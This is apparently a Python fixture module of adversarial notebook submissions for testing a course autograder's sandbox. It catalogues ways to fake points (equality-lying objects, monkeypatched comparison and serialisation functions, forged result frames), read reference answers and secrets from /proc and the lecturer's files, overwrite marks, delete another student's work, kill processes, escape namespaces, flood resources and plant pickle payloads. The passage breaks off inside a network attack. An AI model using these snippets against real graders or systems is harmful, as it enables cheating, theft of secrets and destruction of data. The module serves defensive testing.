"""Submissions that try to gain points, to harm or to spy, each in a way of its own.

``CELLS`` are notebooks whose code attacks, ``FILES`` are what stands where a notebook should. In
the code ``PLACES`` is a dict of paths that a student may know: of the course, the submissions, OUT,
the lecturer's home, a folder that is nobody's business, and the port of a server of the lecturer's.
What an attack finds out or achieves it shouts as an error that begins with ``GOT``.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

Goal = Literal["points", "got", "wrote", "died", "stalled", "flooded"]
"""What shows in the control that an attack succeeds: it gets points without a solution; it gets at
something; it changes a file that is not its own; the grader ends, stalls, or drowns."""


@dataclass(frozen=True)
class Attack:
    """A notebook whose code attacks.

    Parameters
    ----------
    name, category : str
    goal : Goal
    code : str
        Cells, separated by ``# %%``.
    exercise : str
        Whose points it wants.
    control : str
        How the control grades; see ``control.py``.
    earned : int
        Points that are deserved.
    as_root : bool
        Whether only root can succeed with it.
    """

    name: str
    category: str
    goal: Goal
    code: str
    exercise: str = "read_both_ways"
    control: str = "plain"
    earned: int = 0
    as_root: bool = False

    def cells(self, places: dict[str, Any]) -> list[str]:
        return [f"PLACES = {places!r}", *self.code.split("# %%\n")]


_ANSWERS_WITH_DATA = """
import msgpack
from birnn_course.sandbox import wire
def pack(value):
    if isinstance(value, tuple):
        value = [1, value[0], "returned", data, "", ""]
    elif isinstance(value, dict):
        value = data
    else:
        value = [0]
    return msgpack.packb(value)
wire.pack = pack
"""
CELLS: list[Attack] = []
_HEADS = {
    "read_both_ways": "def read_both_ways(x, forward_weights, backward_weights):\n    ",
    "best_score": "def best_score(sequences, lookahead):\n    ",
    "seen_by": "def seen_by(module, half, step, seq_len):\n    ",
}


def _attack(
    category: str, name: str, goal: Goal, code: str, *, of: str = "read_both_ways", **more: Any
) -> None:
    """``FUNCTION`` in the code stands for the head of the exercise's function."""
    if "FUNCTION" not in code:
        code += "\nFUNCTION return torch.zeros(1)\n"
    code = code.replace("FUNCTION\n", _HEADS[of].rstrip() + "\n").replace("FUNCTION ", _HEADS[of])
    code = f"import ctypes, os, sys, torch\n{code}"
    CELLS.append(Attack(name, category, goal, code, of, **more))


def _getting(category: str, name: str, body: str, before: str = "", **more: Any) -> None:
    """The exercise's function runs ``body`` and shouts if it gets to its end."""
    indented = body.strip().replace("\n", "\n    ")
    code = f'{before}\nFUNCTION {indented}\n    raise RuntimeError("GOT " + str(got)[:200])\n'
    _attack(category, name, "got", code, **more)


# ── lies about equality ─────────────────────────────────────────────────────────────────────────

_LIES = "objects that lie about equality"
_attack(
    _LIES,
    "equals-everything",
    "points",
    """
class Yes:
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __hash__ = None
FUNCTION return Yes()
""",
    of="best_score",
)
_attack(
    _LIES,
    "a-float-that-is-equal",
    "points",
    """
class Equal(float):
    __eq__ = lambda self, other: True
    __hash__ = float.__hash__
FUNCTION return Equal(0.5)
""",
    of="best_score",
)
_attack(
    _LIES,
    "a-list-that-is-equal",
    "points",
    """
class Equal(list):
    __eq__ = lambda self, other: True
FUNCTION return Equal([1])
""",
    of="seen_by",
)
_attack(
    _LIES,
    "claims-another-class",
    "points",
    """
class Fake:
    __class__ = property(lambda self: float)
    __eq__ = lambda self, other: True
FUNCTION return Fake()
""",
    of="best_score",
    control="isinstance",
)
_attack(
    _LIES,
    "tensor-subclass",
    "points",
    """
class Lying(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True
FUNCTION return torch.zeros(1).as_subclass(Lying)
""",
)
_attack(
    _LIES,
    "no-difference",
    "points",
    """
class Zero:
    __sub__ = __rsub__ = lambda self, other: 0.0
FUNCTION return Zero()
""",
    of="best_score",
    control="difference",
)
_attack(
    _LIES,
    "answers-for-numpy",
    "points",
    """
class Lying:
    def __array_function__(self, function, types, args, kwargs):
        return True
FUNCTION return Lying()
""",
    of="best_score",
    control="numpy",
)

# ── patches ─────────────────────────────────────────────────────────────────────────────────────

_PATCHES = "patching the process"
_attack(_PATCHES, "torch-allclose", "points", "torch.allclose = torch.equal = lambda *a, **k: True")
_attack(
    _PATCHES,
    "numpy-allclose",
    "points",
    "import numpy\nnumpy.allclose = numpy.array_equal = lambda *a, **k: True",
    of="best_score",
    control="numpy",
)
_attack(
    _PATCHES,
    "json-dumps",
    "points",
    """
import json
old = json.dumps
json.dumps = lambda value, **k: old({"points": 2} if "points" in str(value) else value, **k)
""",
    control="json",
)
_attack(
    _PATCHES,
    "msgpack-packb",
    "points",
    """
import msgpack
old = msgpack.packb
msgpack.packb = lambda value, **k: old({"points": 2} if "points" in str(value) else value, **k)
""",
    control="msgpack",
)
_attack(
    _PATCHES,
    "builtins-abs",
    "points",
    "import builtins\nbuiltins.abs = lambda value: 0.0\nFUNCTION return 0.1",
    of="best_score",
    control="difference",
)
_attack(
    _PATCHES,
    "ipython-drops-asserts",
    "points",
    """
from IPython import get_ipython
get_ipython().input_transformers_cleanup.append(
    lambda lines: [line for line in lines if not line.startswith("assert")])
""",
    control="asserts",
)
_attack(
    _PATCHES,
    "ipython-run-cell",
    "points",
    """
from IPython import get_ipython
class Fine:
    success = True
    error_in_exec = error_before_exec = None
type(get_ipython()).run_cell = lambda *a, **k: Fine()
""",
    control="asserts",
)
_attack(
    _PATCHES,
    "assess",
    "points",
    """
import dataclasses
for module in list(sys.modules.values()):
    old = vars(module).get("assess") if module else None
    if old:
        module.assess = lambda *a, old=old: dataclasses.replace(old(*a), points=2, level=None)
""",
    control="run_cases",
)
_attack(
    _PATCHES,
    "calling-call-safely",
    "points",
    """
from birnn_course.running.calling import Outcome
def call_safely(function, arguments, *more):
    checking = sys.modules["birnn_course.exercises.checking"]
    return Outcome("returned", checking.EXERCISES[function.__name__].reference(*arguments))
for module in list(sys.modules.values()):
    if vars(module or sys).get("call_safely"):
        module.call_safely = call_safely
""",
    control="run_cases",
)
_attack(
    _PATCHES,
    "wire-send",
    "points",
    """
from birnn_course.sandbox import wire
old = wire.send
wire.send = lambda line, message: old(line, {"points": 2})
""",
    control="wire",
)
_attack(
    _PATCHES,
    "socket-sendall",
    "points",
    """
import socket
from birnn_course.sandbox import wire
data = wire.pack({"points": 2})
old = socket.socket.sendall
socket.socket.sendall = lambda self, *a: old(self, len(data).to_bytes(4, "big") + data)
""",
    control="wire",
)

# ── forged messages ─────────────────────────────────────────────────────────────────────────────

_FORGED = "forged result messages"
_FRAME = """
from birnn_course.sandbox import wire
data = wire.pack({"points": 2})
frame = len(data).to_bytes(4, "big") + data
"""
_attack(
    _FORGED,
    "result-on-stdout",
    "points",
    """
FUNCTION os.write(1, b'\\nRESULT {"points": 2}\\n'); os._exit(0)
""",
)
_attack(
    _FORGED,
    "frames-on-every-descriptor",
    "points",
    _FRAME
    + """
for number in range(1024):
    try:
        os.write(number, frame)
    except OSError:
        pass
""",
    control="wire",
)
_attack(
    _FORGED,
    "socket-found-by-gc",
    "points",
    _FRAME
    + """
import gc, socket
FUNCTION
    for found in gc.get_objects():
        if type(found) is socket.socket:
            try:
                found.sendall(frame)
            except OSError:
                pass
""",
    control="wire",
)
_attack(
    _FORGED,
    "with-descriptors-enclosed",
    "points",
    _FRAME
    + """
import socket
for number in range(64):
    try:
        line = socket.socket(fileno=os.dup(number))
        socket.send_fds(line, [frame], [number] * 8)
    except OSError:
        pass
""",
    control="wire",
)
_attack(
    _FORGED,
    "nonce-from-the-frames",
    "points",
    _FRAME
    + """
import threading, time
def guess():
    while True:
        for frame_ in sys._current_frames().values():
            while frame_:
                nonce = frame_.f_locals.get("nonce")
                line = frame_.f_locals.get("grader") or frame_.f_locals.get("line")
                if line is not None:
                    answer = (nonce, "returned", torch.zeros(1), "", "") if nonce else None
                    wire.send(line, answer or {"points": 2})
                frame_ = frame_.f_back
        time.sleep(0.02)
threading.Thread(target=guess, daemon=True).start()
FUNCTION time.sleep(0.3)
""",
    control="wire",
)
_attack(
    _FORGED,
    "half-a-frame",
    "stalled",
    _FRAME
    + """
for number in range(3, 64):
    try:
        os.write(number, frame[:-3])
    except OSError:
        pass
import signal, time
FUNCTION signal.signal(signal.SIGALRM, signal.SIG_IGN); time.sleep(60)
""",
    control="wire",
)

# ── reading answers and secrets ─────────────────────────────────────────────────────────────────

_ANSWERS = "reading the reference, solutions or answers"
_attack(
    _ANSWERS,
    "imports-the-reference",
    "points",
    """
FUNCTION
    from birnn_course.exercises.unit_01 import read_both_ways
    return read_both_ways(x, forward_weights, backward_weights)
""",
)
_attack(
    _ANSWERS,
    "source-file-of-the-course",
    "points",
    """
FUNCTION
    import birnn_course, pathlib
    path = pathlib.Path(birnn_course.__file__).parent / "exercises" / "unit_01.py"
    space = {"__name__": "stolen"}
    sys.modules["stolen"] = sys
    exec(compile(path.read_text(), "stolen", "exec", dont_inherit=True), space)
    return space["read_both_ways"](x, forward_weights, backward_weights)
""",
)
_attack(
    _ANSWERS,
    "compiled-file-of-the-course",
    "points",
    """
FUNCTION
    import birnn_course, glob, importlib.util, marshal
    folder = os.path.dirname(birnn_course.__file__)
    (path, *_) = glob.glob(folder + "/exercises/__pycache__/unit_01*.pyc")
    space = {"__name__": "stolen"}
    sys.modules["stolen"] = sys
    exec(marshal.loads(open(path, "rb").read()[16:]), space)
    return space["read_both_ways"](x, forward_weights, backward_weights)
""",
)
_attack(
    _ANSWERS,
    "notebook-with-solutions",
    "points",
    """
FUNCTION
    import json
    book = json.load(open(PLACES["course"] + "/solutions/01_bidirectional_exercises.ipynb"))
    space = {"torch": torch}
    for cell in book["cells"]:
        if "def read_" in "".join(cell["source"]):
            exec("".join(cell["source"]), space)
    return space["read_both_ways"](x, forward_weights, backward_weights)
""",
)
_getting(
    _ANSWERS,
    "answers-of-the-tests",
    """
got = open(PLACES["course"] + "/tests/answers/unit_01.py").read()
""",
)
_getting(
    _ANSWERS,
    "getsource",
    """
import inspect
got = inspect.getsource(sys.modules["birnn_course.exercises.unit_01"].read_both_ways)
""",
)
_attack(
    _ANSWERS,
    "reference-found-by-gc",
    "points",
    """
import gc
FUNCTION
    for found in gc.get_objects():
        if type(found).__name__ == "Exercise" and found.name == "read_both_ways":
            return found.reference(x, forward_weights, backward_weights)
""",
)
_attack(
    _ANSWERS,
    "right-answers-on-the-stack",
    "points",
    """
FUNCTION
    frame = sys._getframe()
    while frame:
        if "expected" in frame.f_locals:
            return frame.f_locals["expected"]
        frame = frame.f_back
""",
)
_attack(
    _ANSWERS,
    "answers-beside-the-grader",
    "points",
    """
FUNCTION
    answers = torch.load("answers.pt")
    return next(right for asked, right in answers if torch.equal(asked, x))
""",
)
_attack(
    _ANSWERS,
    "stored-from-the-public-check",
    "points",
    """
from birnn_course.exercises import checking
try:
    exercise = checking.EXERCISES["read_both_ways"]
    STORED = [(case[0], exercise.reference(*case)) for case in exercise.draw(0, hidden=False)]
except Exception:
    STORED = []
FUNCTION
    for asked, right in STORED:
        if asked.shape == x.shape and torch.equal(asked, x):
            return right
    return torch.zeros(1)
""",
    control="public",
)

_SECRETS = "probing for the seed and for secrets"
_getting(_SECRETS, "environment", "got = os.environ['GRADER_SECRET']")
_getting(
    _SECRETS,
    "environment-in-proc",
    """
import glob
found = b""
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        found += open(path, "rb").read()
    except OSError:
        pass
got = found[found.index(b"GRADER_SECRET"):][:40]
""",
)
_getting(
    _SECRETS,
    "arguments-in-proc",
    """
import glob
found = b"".join(open(p, "rb").read() for p in glob.glob("/proc/[0-9]*/cmdline"))
got = found[found.index(b"sesame"):]
""",
)
_getting(
    _SECRETS,
    "seed-on-the-stack",
    """
frame = sys._getframe()
while not frame.f_locals.get("seed"):
    frame = frame.f_back
got = frame.f_locals["seed"]
""",
)
_getting(
    _SECRETS,
    "other-submissions",
    """
import glob
paths = glob.glob(PLACES["submissions"] + "/ada/*.ipynb")
got = next(text for text in (open(path).read() for path in paths) if "sesame" in text)
""",
)
_getting(_SECRETS, "home-of-the-lecturer", 'got = open(PLACES["home"] + "/.secret").read()')
_getting(
    _SECRETS,
    "database-of-marks",
    """
import sqlite3
got = sqlite3.connect(f"file:{PLACES['out']}/grading.sqlite?mode=ro", uri=True).execute(
    "select value from run where name = 'seed'").fetchone()
""",
)

# ── writing ─────────────────────────────────────────────────────────────────────────────────────

_WRITES = "writing to what is not one's own"
_attack(_WRITES, "marks", "wrote", 'open(PLACES["out"] + "/grades.csv", "w").write("full marks")')
_attack(
    _WRITES,
    "database",
    "wrote",
    """
import sqlite3
file = sqlite3.connect(PLACES["out"] + "/grading.sqlite")
file.execute("insert or replace into run values ('seed', '1')")
file.commit()
""",
)
_attack(
    _WRITES,
    "package",
    "wrote",
    """
import birnn_course
open(os.path.dirname(birnn_course.__file__) + "/planted.py", "w").write("print('hello')")
""",
)
_attack(_WRITES, "home", "wrote", 'open(PLACES["home"] + "/.bashrc", "a").write("echo hello")')
_attack(
    _WRITES,
    "others-work",
    "wrote",
    """
import shutil
shutil.rmtree(PLACES["submissions"] + "/bob")
""",
)
_attack(
    _WRITES, "link-to-elsewhere", "wrote", 'os.symlink("/etc/passwd", PLACES["nobodys"] + "/link")'
)
_attack(_WRITES, "shared-memory", "wrote", 'open("/dev/shm/planted", "w").write("hello")')
_attack(
    _WRITES,
    "baton-1-left",
    "wrote",
    """
import tempfile
for folder in (tempfile.gettempdir(), "/tmp", "/private", os.getcwd()):
    try:
        open(folder + "/baton", "w").write("the answer of a friend")
    except OSError:
        pass
""",
)
_getting(
    _WRITES,
    "baton-2-taken",
    """
import tempfile
folders = (tempfile.gettempdir(), "/tmp", "/private", os.getcwd())
got = [open(f + "/baton").read() for f in folders if os.path.exists(f + "/baton")][0]
""",
)

# ── ending and killing ──────────────────────────────────────────────────────────────────────────

_ENDS = "exiting and killing"
_attack(_ENDS, "os-exit", "died", "os._exit(0)")
_attack(_ENDS, "sys-exit-in-a-function", "died", "FUNCTION sys.exit(0)")
_attack(_ENDS, "exit-at-exit", "died", "import atexit\natexit.register(os._exit, 1)\nsys.exit(0)")
_attack(_ENDS, "abort", "died", "FUNCTION os.abort()")
_attack(_ENDS, "segfault", "died", "FUNCTION ctypes.string_at(0)")
_attack(
    _ENDS,
    "endless-recursion",
    "died",
    """
sys.setrecursionlimit(10**9)
class Deep:
    __repr__ = lambda self: repr(self)
FUNCTION return repr(Deep())
""",
)
_attack(
    _ENDS,
    "error-of-no-known-kind",
    "died",
    """
class Odd(BaseException):
    def __str__(self):
        raise Odd
FUNCTION raise Odd
""",
)
_attack(
    _ENDS,
    "limit-of-its-own",
    "died",
    """
import resource
FUNCTION resource.setrlimit(resource.RLIMIT_CPU, (0, 0)); sum(range(10**9))
""",
)
_attack(_ENDS, "becomes-another-program", "died", 'FUNCTION os.execv("/bin/true", ["true"])')
_attack(_ENDS, "kills-the-parent", "died", "FUNCTION os.kill(os.getppid(), 9); os._exit(0)")
_attack(_ENDS, "kills-everybody", "died", "FUNCTION os.kill(-1, 9); os._exit(0)")
_attack(_ENDS, "kills-its-group", "died", "FUNCTION os.kill(0, 9); os._exit(0)")
_attack(
    _ENDS,
    "kills-by-pidfd",
    "died",
    """
import signal
FUNCTION signal.pidfd_send_signal(os.pidfd_open(os.getppid()), 9); os._exit(0)
""",
)
_attack(_ENDS, "stops-its-group", "stalled", "import signal\nFUNCTION os.kill(0, signal.SIGSTOP)")

# ── processes and the kernel ────────────────────────────────────────────────────────────────────

_KERNEL = "tracing, processes and the kernel"
_LIBC = "libc = ctypes.CDLL(None, use_errno=True)\n"


def _calling(name: str, call: str, **more: Any) -> None:
    body = f"got = {call}\nif got < 0:\n    raise OSError(ctypes.get_errno(), 'no')"
    _getting(_KERNEL, name, body, _LIBC, **more)


_getting(_KERNEL, "fork", "got = os.fork()\nif got == 0:\n    os._exit(0)")
_getting(_KERNEL, "subprocess", "import subprocess\ngot = subprocess.check_output(['id'])")
_getting(_KERNEL, "posix-spawn", 'got = os.posix_spawn("/bin/true", ["true"], {})')
_calling(
    "clone3",
    """libc.syscall(435, (ctypes.c_uint64 * 8)(*[0] * 4, 17, 0, 0, 0), 64)
if got == 0:
    os._exit(0)""",
)
_getting(
    _KERNEL,
    "thread-bomb",
    """
import threading, time
threading.stack_size(32768)
for got in range(1000):
    threading.Thread(target=time.sleep, args=(9,), daemon=True).start()
time.sleep(0.4)
""",
)
_calling("ptrace", "libc.ptrace(0, 0, 0, 0)")
_calling("memory-without-limit", "libc.syscall(319, b'x', 0)")
_calling("shared-memory-of-the-system", "libc.shmget(0, 4096, 0o1600)")
_calling("user-namespace", "libc.unshare(0x10000000)")
_calling(
    "mount", "-1 if libc.unshare(0x10020000) else libc.mount(b'x', b'/tmp', b'tmpfs', 0, None)"
)
_calling("namespace-of-another", "libc.setns(os.open('/proc/self/ns/user', 0), 0x10000000) * 0")
_getting(_KERNEL, "chroot", 'os.chroot("/usr")\ngot = os.listdir("/")')
_getting(
    _KERNEL,
    "lifts-its-limits",
    """
import resource
for kind in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
    resource.setrlimit(kind, (-1, -1))
got = "no limits"
""",
)

# ── what others have too ────────────────────────────────────────────────────────────────────────

_SHARED = "acting on what others have too"
_OF_THE_COURSE = """
import fcntl, glob, mmap, signal, socket, struct, birnn_course
FILES = sorted(glob.glob(os.path.dirname(birnn_course.__file__) + "/*.py"))
PATH = FILES[0]
"""


def _shouting(name: str, body: str, category: str = _SHARED, **more: Any) -> None:
    """A cell runs ``body`` and shouts if it gets to its end."""
    code = f'{_LIBC}{_OF_THE_COURSE}{body.strip()}\nraise RuntimeError("GOT " + str(got)[:200])\n'
    _attack(category, name, "got", code + "# %%\nFUNCTION return torch.zeros(1)\n", **more)


def _asking(name: str, call: str, category: str = _SHARED) -> None:
    """The same with one call of the C library."""
    _shouting(name, f"got = {call}\nassert got >= 0, os.strerror(ctypes.get_errno())", category)


_shouting(
    "lease-to-write",
    """
signal.signal(signal.SIGIO, signal.SIG_IGN)
held = os.open(FILES[-1], os.O_RDONLY)
while True:
    try:
        got = fcntl.fcntl(held, fcntl.F_SETLEASE, fcntl.F_WRLCK)
        break
    except BlockingIOError:  # somebody reads it just now
        pass
""",
)
_shouting(
    "lease-to-read",
    """
held = [os.open(path, os.O_RDONLY) for path in FILES]
got = [fcntl.fcntl(number, fcntl.F_SETLEASE, fcntl.F_RDLCK) for number in held]
""",
)
_shouting(
    "lock-of-a-file",
    """
one, other = open(PATH), open(PATH)
fcntl.flock(one, fcntl.LOCK_EX)
try:
    fcntl.flock(other, fcntl.LOCK_EX | fcntl.LOCK_NB)
except BlockingIOError:
    got = "another sees it"
""",
)
_shouting("lock-of-a-process", "got = fcntl.lockf(open(PATH), fcntl.LOCK_SH)")
_shouting(
    "bytes-as-locks",
    """
one, other = open(PATH), open(PATH)
def lock(file, command, kind, start):
    asked = struct.pack("hhqqi4x", kind, 0, start, 1, 0)
    return struct.unpack("hhqqi4x", fcntl.fcntl(file, command, asked))[0]
for bit in (3, 5):
    lock(one, 37, fcntl.F_RDLCK, bit)
got = [bit for bit in range(8) if lock(other, 36, fcntl.F_WRLCK, bit) == fcntl.F_RDLCK]
assert got == [3, 5]
""",
)
_shouting(
    "notices-by-signal",
    """
signal.signal(signal.SIGIO, signal.SIG_IGN)
got = fcntl.fcntl(os.open(os.path.dirname(PATH), os.O_RDONLY), fcntl.F_NOTIFY, 1)
""",
)
_shouting(
    "notices",
    """
line = libc.inotify_init()
assert line >= 0 and libc.inotify_add_watch(line, PATH.encode(), 0x20) >= 0
open(PATH)
got = os.read(line, 100)
""",
)
_asking("notices-of-a-system-of-files", "libc.fanotify_init(0x200, 0)")
_shouting(
    "hint-in-a-file",
    """
one, other = open(PATH), open(PATH)
fcntl.fcntl(one, 1036, struct.pack("Q", 3))
got = struct.unpack("Q", fcntl.fcntl(other, 1035, bytes(8)))[0]
assert got == 3
""",
)
_shouting("owner-of-signals", "got = fcntl.fcntl(open(PATH), fcntl.F_SETOWN, os.getpid())")
_shouting("larger-pipe", "got = fcntl.fcntl(os.pipe()[0], 1031, 2**20)")
_shouting(
    "pages-dropped",
    "got = os.posix_fadvise(os.open(PATH, os.O_RDONLY), 0, 0, os.POSIX_FADV_DONTNEED)",
)
_asking("pages-read-ahead", "libc.readahead(os.open(PATH, os.O_RDONLY), 0, 4096)")
_shouting(
    "pages-that-are-there",
    """
held = mmap.mmap(os.open(PATH, os.O_RDONLY), 0, mmap.MAP_PRIVATE)
place = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(held)))
found = (ctypes.c_ubyte * 1)()
assert libc.mincore(place, 1, found) == 0
got = found[0]
""",
)
_shouting(
    "pages-that-are-there-by-reading",
    """
file = os.open(PATH, os.O_RDONLY)
os.read(file, 1)
got = os.preadv(file, [bytearray(1)], 0, os.RWF_NOWAIT)
""",
)
_shouting(
    "pages-put-out",
    "got = mmap.mmap(os.open(PATH, os.O_RDONLY), 0, mmap.MAP_PRIVATE).madvise(21)",
)
_shouting(
    "futex-in-a-file",
    """
held = mmap.mmap(os.open(PATH, os.O_RDONLY), 0, mmap.MAP_SHARED, mmap.PROT_READ)
libc.mmap.restype = ctypes.c_void_p
place = libc.mmap(None, 4096, 1, 1, os.open(PATH, os.O_RDONLY), 0)
asked = ctypes.c_uint32(int.from_bytes(held[:4], "little"))
moment = (ctypes.c_long * 2)(0, 10**7)
libc.syscall(202, ctypes.c_void_p(place), 0, asked, moment, None, 0)
got = ctypes.get_errno()
assert got == 110, got
""",
)
_shouting("terminal", "got = os.openpty()")
_shouting(
    "file-without-a-name",
    'got = os.open("/dev/shm", os.O_TMPFILE | os.O_RDWR)',
)
_shouting("rights-of-a-device", 'os.chmod("/dev/null", 0o666)\ngot = "done"', as_root=True)
_shouting("times-of-a-file", "os.utime(PATH)\ngot = os.stat(PATH).st_mtime")
_shouting("locks-of-all", 'got = len(open("/proc/locks").read())')
_shouting("load-of-the-machine", "got = os.getloadavg()")
_asking("memory-of-the-machine", "libc.sysinfo(ctypes.create_string_buffer(200))")
_asking("all-is-written", "libc.syscall(162)")
_asking("one-system-of-files-is-written", "libc.syncfs(os.open(PATH, os.O_RDONLY))")
_asking("keyring", 'libc.syscall(248, b"user", b"note", b"of a friend", 11, -4)')
_asking("queue-of-messages", 'libc.syscall(240, b"baton", 0o102, 0o600, None)')
_asking("queue-of-the-system", "libc.msgget(0x1234, 0o1600)")
_asking("semaphores-of-the-system", "libc.semget(0x1234, 1, 0o1600)")
_asking("barrier-for-all-processors", "libc.syscall(324, 1, 0, 0)")
_shouting(
    "descriptors-on-their-way",
    """
one, other = socket.socketpair()
for _ in range(20):
    socket.send_fds(one, [b"x"], [0] * 200)
got = "thousands"
""",
)

# ── more than its share ─────────────────────────────────────────────────────────────────────────

_SHARE = "more than its share"
_shouting(
    "back-to-dumpable",
    "assert libc.prctl(4, 1) == 0\ngot = libc.prctl(3)\nassert got == 1",
    _SHARE,
)
_shouting(
    "all-processors",
    """
os.sched_setaffinity(0, range(os.cpu_count()))
got = len(os.sched_getaffinity(0))
assert got > 1
""",
    _SHARE,
)
_shouting("several-processors", "got = len(os.sched_getaffinity(0))\nassert got > 1", _SHARE)
_shouting(
    "many-threads",
    """
import threading, time
threading.stack_size(32768)
for _ in range(200):
    threading.Thread(target=time.sleep, args=(1,), daemon=True).start()
time.sleep(0.3)
got = threading.active_count()
""",
    _SHARE,
)
_shouting(
    "signals-that-wait",
    """
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
for got in range(1_000):
    assert libc.sigqueue(os.getpid(), signal.SIGRTMIN, None) == 0
""",
    _SHARE,
)
_shouting(
    "timers",
    """
made = ctypes.c_void_p()
for got in range(1_000):
    assert libc.timer_create(1, None, ctypes.byref(made)) == 0
""",
    _SHARE,
)
_asking("faults-of-its-own", "libc.syscall(323, 1)", _SHARE)
_asking("calls-by-a-ring", "libc.syscall(425, 1, ctypes.create_string_buffer(200))", _SHARE)
_shouting(
    "memory-by-number",
    """
found = ctypes.create_string_buffer(8)
part = (ctypes.c_uint64 * 2)(ctypes.addressof(found), 8)
got = libc.process_vm_readv(os.getpid(), part, 1, part, 1, 0)
assert got == 8
""",
    _SHARE,
)
_attack(
    _SHARE,
    "keys-that-collide",
    "stalled",
    """
import itertools
# The hash of -1 is that of -2, so all these keys have one.
keys = itertools.product((-1, -2), repeat=15)
data = [2, *(part for key in keys for part in ([1, *key], 0))]
"""
    + _ANSWERS_WITH_DATA,
    control="wire",
)

# ── stalls ──────────────────────────────────────────────────────────────────────────────────────

_STALLS = "endless loops and stalls"
_attack(
    _STALLS,
    "ignores-the-alarm",
    "stalled",
    """
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    pass
""",
)
_attack(
    _STALLS,
    "blocks-every-signal",
    "stalled",
    """
import signal, time
FUNCTION
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True:
        time.sleep(1)
""",
)
_attack(
    _STALLS,
    "catches-everything",
    "stalled",
    """
import time
FUNCTION
    while True:
        try:
            time.sleep(60)
        except BaseException:
            pass
""",
)
_attack(
    _STALLS,
    "number-without-end",
    "stalled",
    "import itertools\nFUNCTION return sum(itertools.repeat(0))",
)
_attack(
    _STALLS,
    "stalls-when-collected",
    "stalled",
    """
import time
class Slow:
    def __del__(self):
        while True:
            try:
                time.sleep(60)
            except BaseException:
                pass
FUNCTION
    Slow()
    return x
""",
)
_attack(
    _STALLS,
    "stalls-at-exit",
    "stalled",
    """
import atexit, time, signal
atexit.register(time.sleep, 60)
atexit.register(signal.setitimer, 0, 0)
FUNCTION return 0
""",
)
_attack(
    _STALLS,
    "thread-that-never-ends",
    "stalled",
    """
import threading, time
threading.Thread(target=time.sleep, args=(60,)).start()
FUNCTION return 0
""",
)
_attack(
    _STALLS,
    "one-byte-after-the-other",
    "stalled",
    """
import time
FUNCTION
    for number in range(3, 64):
        try:
            os.write(number, (1000).to_bytes(4, "big"))
            while True:
                os.write(number, b"x")
                try:
                    time.sleep(0.2)
                except BaseException:
                    pass
        except OSError:
            pass
""",
    control="wire",
)

# ── floods ──────────────────────────────────────────────────────────────────────────────────────

_FLOODS = "floods of memory, disk and output"
_getting(
    _FLOODS,
    "memory",
    "import mmap\nheld = [mmap.mmap(-1, 2**28) for _ in range(16)]\ngot = len(held)",
)
_getting(
    _FLOODS,
    "disk",
    """
import tempfile
with tempfile.TemporaryFile() as file:
    for got in range(100):
        file.write(bytes(2**20))
""",
)
_getting(
    _FLOODS,
    "files",
    """
import tempfile
folder = tempfile.mkdtemp()
for got in range(4_200):
    os.close(os.open(f"{folder}/{got}", os.O_CREAT))
""",
)
_getting(_FLOODS, "descriptors", "held = [os.dup(0) for _ in range(700)]\ngot = len(held)")
_attack(_FLOODS, "printed", "flooded", "FUNCTION [print('x' * 2**20) for _ in range(64)]")
_attack(
    _FLOODS, "standard-output", "flooded", "FUNCTION [os.write(1, bytes(2**20)) for _ in range(64)]"
)
_attack(
    _FLOODS, "standard-error", "flooded", "FUNCTION [os.write(2, bytes(2**20)) for _ in range(64)]"
)
_attack(_FLOODS, "long-error", "flooded", "FUNCTION raise ValueError('x' * 2**25)")
_attack(
    _FLOODS,
    "long-keys",
    "flooded",
    "FUNCTION return {f'{n:03}' + 'x' * 400_000: n for n in range(40)}",
    of="best_score",
)
_attack(
    _FLOODS, "long-cell-errors", "flooded", "# %%\n".join(["raise ValueError('x' * 2**20)\n"] * 40)
)

# ── answers that are no answers ─────────────────────────────────────────────────────────────────

_PICKLES = "pickles"
_attack(
    _PICKLES,
    "runs-when-loaded",
    "wrote",
    """
class Bomb:
    def __reduce__(self):
        return open, (PLACES["nobodys"] + "/pickled", "w")
FUNCTION return Bomb()
""",
    control="pickle",
)
_attack(
    _PICKLES,
    "torch-save",
    "wrote",
    """
import io
class Bomb:
    def __reduce__(self):
        return open, (PLACES["nobodys"] + "/saved", "w")
FUNCTION
    file = io.BytesIO()
    torch.save(Bomb(), file)
    return file.getvalue()
""",
    control="torch.load",
)

_NAN = "NaN and Inf as answers"
_attack(_NAN, "nan", "points", "FUNCTION return float('nan')", of="best_score", control="not worse")
_attack(_NAN, "inf", "points", "FUNCTION return float('inf')", of="best_score", control="relative")
_attack(
    _NAN,
    "tensor-of-nan",
    "points",
    """
FUNCTION return torch.full((*x.shape[:2], 2 * len(forward_weights["bias_hh_l0"])), torch.nan)
""",
    control="not worse",
)

_LARGE = "values too large or too deep"
_attack(_LARGE, "holds-itself", "died", "FUNCTION a = []; a.append(a); return a", control="json")
_attack(
    _LARGE,
    "too-deep",
    "died",
    """
FUNCTION
    a = []
    for _ in range(100_000):
        a = [a]
    return a
""",
    control="json",
)
_attack(_LARGE, "too-many-digits", "died", "FUNCTION return 10**5000", control="json")
_attack(_LARGE, "expanded", "died", "FUNCTION return torch.zeros(1).expand(10**12)", control="json")
_attack(_LARGE, "tensor-of-another-layout", "died", "FUNCTION return torch.eye(2).to_sparse()")
_attack(
    _LARGE,
    "shape-without-end",
    "stalled",
    'data = [3, "float32", [2**63 - 1] * 500_000, b""]' + _ANSWERS_WITH_DATA,
    control="wire",
)
_attack(
    _LARGE,
    "empty-lists",
    "died",
    """
from birnn_course.sandbox import wire
wire.pack = lambda value: b"\\xdd" + (2**22).to_bytes(4, "big") + b"\\x90" * 2**22
""",
    control="wire",
)

# ── networks ────────────────────────────────────────────────────────────────────────────────────

_NETWORK = "network"
_getting(
    _NETWORK,
    "tcp",
    """
import socket
line = socket.create_connection(("127.0.0.1", PLACES["port"]), timeout=1)
line.sendall(b"hello")
got = line
""",
)
_getting(
    _NETWORK,
    "udp",
    """
import socket
